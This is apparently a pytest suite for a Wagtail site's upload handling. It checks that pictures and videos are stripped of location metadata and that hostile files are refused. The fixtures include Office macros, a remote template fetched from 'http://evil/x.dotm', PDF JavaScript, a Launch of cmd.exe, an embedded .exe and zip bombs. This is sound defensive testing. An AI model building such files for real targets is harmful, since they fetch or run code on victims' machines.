"""Hostile files at every door of the library: what is kept runs nothing and tells nothing of who made it."""

import io
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from django.core.files.base import ContentFile
from django.forms import FileField
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from PIL import Image, PngImagePlugin
from wagtail.documents import get_document_model
from wagtail.documents.forms import get_document_form
from wagtail.images import get_image_model
from wagtail.images.forms import get_image_form
from wagtail.models import Collection
from wagtailmedia.forms import get_media_form
from wagtailmedia.models import get_media_model

from courses.pages import documents, pictures, recordings, uploads
from tests.factories.lessons import photo

PLACE = "16.75,-93.11 Tuxtla"
XMP = f"<x:xmpmeta xmlns:x='adobe:ns:meta/'>{PLACE}</x:xmpmeta>".encode()


def telling(kind: str) -> bytes:
    """A picture in which everything tells of its place: Exif with GPS, XMP, comments, and a tail."""
    exif = Image.Exif()
    exif[0x010E] = exif[0x013B] = exif[0x9286] = PLACE
    exif.get_ifd(0x8825)[1] = "N"
    exif[0x0112] = 6  # lies on its side
    facts: dict[str, Any] = {"exif": exif, "xmp": XMP}
    if kind == "PNG":
        chunks = PngImagePlugin.PngInfo()
        chunks.add_text("Comment", PLACE)
        chunks.add_itxt("Place", PLACE)
        chunks.add_text("Zipped", PLACE * 9, zip=True)
        facts = {"exif": exif, "pnginfo": chunks}
    if kind == "JPEG":
        facts["comment"] = PLACE
    out = io.BytesIO()
    Image.linear_gradient("L").resize((40, 30)).convert("RGB").save(out, kind, **facts)
    return out.getvalue() + b"<script>alert(1)</script>" + PLACE.encode()


@pytest.mark.parametrize(("extension", "kind"), pictures.FORMATS.items())
def test_nothing_but_its_points_is_kept_of_a_picture(extension: str, kind: str) -> None:
    raw = telling(kind)
    assert PLACE.encode() in raw
    kept = pictures.redrawn(raw, extension)
    assert PLACE.encode() not in kept
    assert b"script" not in kept
    with Image.open(io.BytesIO(kept)) as image:
        assert image.format == kind
        assert image.size == (30, 40), "it stands upright"
        assert not image.getexif()
        assert not {"xmp", "exif", "comment", "icc_profile", "Comment", "Place", "Zipped"} & set(image.info)


def test_a_transparent_picture_stays_transparent() -> None:
    out = io.BytesIO()
    Image.new("RGBA", (9, 9), (200, 0, 0, 0)).quantize().save(out, "PNG", transparency=0)
    with Image.open(io.BytesIO(pictures.redrawn(out.getvalue(), "png"))) as kept:
        assert kept.convert("RGBA").getpixel((4, 4))[3] == 0  # type: ignore[index]  # four numbers


def moving() -> bytes:
    out = io.BytesIO()
    frames = [Image.new("RGB", (9, 9), (shade, 0, 0)) for shade in (0, 99, 200)]
    frames[0].save(out, "WEBP", save_all=True, append_images=frames[1:])
    return out.getvalue()


def huge() -> bytes:
    out = io.BytesIO()
    Image.new("1", (30_000, 30_000)).save(out, "PNG")
    return out.getvalue()


@pytest.mark.parametrize(
    ("extension", "make", "refusal"),
    [
        ("png", huge, pictures.TooManyPoints),
        ("webp", moving, pictures.Moving),
        ("jpg", lambda: b"", pictures.NotAPicture),
        ("jpg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg'/>", pictures.NotAPicture),
        ("svg", photo, pictures.NotAPicture),
        ("png", photo, pictures.NotAPicture),
        ("jpg", lambda: photo(400, 400)[:900], pictures.NotAPicture),
    ],
)
def test_what_is_no_picture_of_its_kind_is_refused(
    extension: str, make: Callable[[], bytes], refusal: type[ValueError]
) -> None:
    with pytest.raises(refusal):
        pictures.redrawn(make(), extension)


# --- documents -------------------------------------------------------------------------------------------
def office(extra: dict[str, bytes] | None = None, types: bytes = b"<Types/>") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {
            "[Content_Types].xml": types,
            "word/document.xml": b"<d/>",
            **(extra or {}),
        }.items():
            archive.writestr(name, content)
    return out.getvalue()


def lying() -> bytes:
    """A part whose table says that it is small."""
    raw = office({"word/_rels/document.xml.rels": b"A" * 70_000})
    size = (70_000).to_bytes(4, "little")
    return raw.replace(size, (10).to_bytes(4, "little"))


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, **how: Any) -> bytes:
    document, out = pikepdf.new(), io.BytesIO()
    document.add_blank_page()
    if change:
        change(document)
    document.save(out, **how)
    return out.getvalue()


def with_script(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name("/JavaScript"), JS="app.alert(1)")


def with_launch(document: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name("/Launch"), F="cmd.exe")
    note = pikepdf.Dictionary(Type=pikepdf.Name("/Annot"), Subtype=pikepdf.Name("/Link"), A=action)
    document.pages[0].Annots = pikepdf.Array([note])


def with_file(document: pikepdf.Pdf) -> None:
    document.attachments["a.exe"] = b"MZ"


REMOTE = b'<Relationship Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>'


@pytest.mark.parametrize(
    ("extension", "make", "refusal"),
    [
        ("docx", lambda: office({"word/vbaProject.bin": b"x"}), documents.Runs),
        ("docx", lambda: office(types=b"application/vnd.ms-word.document.macroEnabled.main"), documents.Runs),
        ("docx", lambda: office({"word/embeddings/oleObject1.bin": b"x"}), documents.Runs),
        ("docx", lambda: office({"word/_rels/settings.xml.rels": REMOTE}), documents.Runs),
        ("odt", lambda: office({"Basic/Standard/Module1.xml": b"x"}), documents.Runs),
        ("odt", lambda: office({"Scripts/python/x.py": b"x"}), documents.Runs),
        ("docx", lambda: office({"word/media/a.bin": b"\0" * 30_000_000}), documents.Bomb),
        ("docx", lambda: office({f"a{n}": b"" for n in range(3001)}), documents.Bomb),
        ("docx", lying, ValueError),
        ("docx", lambda: b"PK\x03\x04 and no more", documents.Damaged),
        ("pdf", lambda: pdf(with_script), documents.Runs),
        (
            "pdf",
            lambda: pdf(with_script, object_stream_mode=pikepdf.ObjectStreamMode.generate),
            documents.Runs,
        ),
        ("pdf", lambda: pdf(with_launch), documents.Runs),
        ("pdf", lambda: pdf(with_file), documents.Runs),
        ("pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="x", user="y")), documents.Locked),
        ("pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="x", user="")), documents.Locked),
        ("pdf", lambda: b"%PDF-1.7 and no more", documents.Damaged),
    ],
)
def test_a_document_that_runs_or_unpacks_without_end_is_refused(
    extension: str, make: Callable[[], bytes], refusal: type[ValueError]
) -> None:
    with pytest.raises(refusal):
        documents.look_into(extension, make())


def test_a_plain_document_is_taken() -> None:
    documents.look_into("docx", office({"word/media/a.png": b"x" * 60_000}))
    documents.look_into("pdf", pdf())


# --- recordings ------------------------------------------------------------------------------------------
def box(name: bytes, content: bytes) -> bytes:
    return (8 + len(content)).to_bytes(4) + name + content


def film(making: bytes = PLACE.encode()) -> bytes:
    track = box(b"trak", box(b"tkhd", b"t" * 8) + box(b"udta", making))
    movie = box(
        b"moov", box(b"mvhd", b"m" * 8) + track + box(b"udta", box(b"\xa9xyz", making)) + box(b"meta", making)
    )
    return box(b"ftyp", b"mp42") + movie + box(b"uuid", making) + box(b"mdat", b"d" * 99)


def test_a_video_forgets_where_it_was_taken_and_nothing_else_of_it_moves() -> None:
    file = io.BytesIO(film())
    recordings.forget_making(file)
    kept = file.getvalue()
    assert PLACE.encode() not in kept
    blank = film(bytes(len(PLACE)))
    assert len(kept) == len(film())
    assert kept.replace(b"free", b"udta", 2)[:60] == blank[:60]
    assert kept.endswith(box(b"mdat", b"d" * 99))


@pytest.mark.parametrize(
    "raw", [film()[:-20], b"\0\0\0\x04ftyp" + b"x" * 20, box(b"moov", b"\xff\xff\xff\xffudta")]
)
def test_boxes_that_do_not_fit_are_refused_before_anything_is_written(raw: bytes) -> None:
    file = io.BytesIO(raw)
    with pytest.raises(recordings.Damaged):
        recordings.forget_making(file)
    assert file.getvalue() == raw


# --- the doors -------------------------------------------------------------------------------------------
FORMS = [
    (get_image_form(get_image_model()), uploads.ImageForm),
    (get_document_form(get_document_model()), uploads.DocumentForm),
    (get_media_form(get_media_model()), uploads.MediaForm),
]


@pytest.mark.parametrize(("form", "ours"), FORMS)
def test_wagtails_forms_are_ours(form: type[Any], ours: type[Any]) -> None:
    assert issubclass(form, ours)


def doors(resolver: URLResolver | None = None, prefix: str = "") -> list[tuple[str, Any]]:
    """Each view of Wagtail's and its add-ons that takes a file, with its address."""
    found: list[tuple[str, Any]] = []
    for entry in (resolver or get_resolver()).url_patterns:
        route = prefix + str(entry.pattern)
        if isinstance(entry, URLResolver):
            found += doors(entry, route)
        elif isinstance(entry, URLPattern) and any(
            word in route for word in ("add", "upload", "avatar", "import")
        ):
            view = getattr(entry.callback, "view_class", entry.callback)
            if view.__module__.startswith(("wagtail", "wagtailmedia", "wagtail_localize")):
                found.append((route, view))
    return found


LIBRARY = ("admin/images/", "admin/documents/", "admin/media/")
NO_FILE = {  # they add rows without a file
    "pages",
    "snippets",
    "collections",
    "workflows",
    "sites",
    "locales",
    "groups",
    "users",
    "localize",
    "tag-autocomplete",
    "designs",
}


def test_every_door_of_wagtail_that_takes_a_file_is_known() -> None:
    """A door that an upgrade adds is looked at by somebody, or this fails."""
    others = [
        route
        for route, _view in doors()
        if not route.startswith(LIBRARY) and not NO_FILE & set(route.replace("^", "").split("/"))
    ]
    assert others == []


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("address", "field"),
    [
        ("wagtailimages:add", "file"),
        ("wagtailimages:add_multiple", "files[]"),
        ("wagtailimages_chooser:create", "image-chooser-upload-file"),
    ],
)
def test_each_door_for_pictures_keeps_points_only(trainer: Any, address: str, field: str) -> None:
    client = Client()
    client.force_login(trainer)
    prefix = "image-chooser-upload-" if "chooser" in address else ""
    facts = {
        f"{prefix}title": "Uno",
        f"{prefix}collection": Collection.get_first_root_node().pk,
        f"{prefix}tags": "",
    }
    upload = ContentFile(telling("JPEG"), name="foto.jpg")
    answer = client.post(
        reverse(address), {**facts, field: upload}, headers={"x-requested-with": "XMLHttpRequest"}
    )
    assert answer.status_code in {200, 302}
    kept = get_image_model().objects.get()
    assert (kept.width, kept.height) == (30, 40)
    assert PLACE.encode() not in Path(kept.file.path).read_bytes()
    assert kept.file_size == kept.file.size


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["PNG", "JPEG", "WEBP", "AVIF"])
@pytest.mark.parametrize("share", [0.3, 0.6, 0.9])
def test_a_damaged_picture_is_refused_in_words_and_leaves_nothing(
    trainer: Any, kind: str, share: float
) -> None:
    client = Client()
    client.force_login(trainer)
    target = io.BytesIO()
    Image.effect_noise((97, 61), 90).convert("RGB").save(target, kind)
    cut = target.getvalue()[: int(len(target.getvalue()) * share)]
    facts = {"title": "Uno", "collection": Collection.get_first_root_node().pk, "tags": ""}
    upload = ContentFile(cut, name=f"foto.{kind.lower()}")
    answer = client.post(reverse("wagtailimages:add"), {**facts, "file": upload})
    assert answer.status_code == 200
    assert answer.context["form"].errors["file"]
    assert not get_image_model().objects.exists()


@pytest.mark.django_db
def test_another_file_in_its_place_is_drawn_anew_too(trainer: Any) -> None:
    client = Client()
    client.force_login(trainer)
    facts = {"title": "Uno", "collection": Collection.get_first_root_node().pk, "tags": ""}
    client.post(reverse("wagtailimages:add"), {**facts, "file": ContentFile(photo(), name="foto.jpg")})
    row = get_image_model().objects.get()
    other = {**facts, "file": ContentFile(telling("PNG"), name="foto.png")}
    assert client.post(reverse("wagtailimages:edit", args=[row.pk]), other).status_code == 302
    row.refresh_from_db()
    assert PLACE.encode() not in Path(row.file.path).read_bytes()


@pytest.mark.django_db
def test_no_picture_of_an_account_is_asked_for_or_taken(client: Client, trainer: Any) -> None:
    client.force_login(trainer)
    page = client.get(reverse("wagtailadmin_account"))
    fields = [
        field
        for panels in page.context["panels_by_tab"].values()
        for one in panels
        for field in one.get_form()
    ]
    assert fields
    assert not any(isinstance(field.field, FileField) for field in fields)
    client.post(reverse("wagtailadmin_account"), {"avatar-avatar": ContentFile(photo(), name="yo.jpg")})
    assert not trainer.wagtail_userprofile.avatar
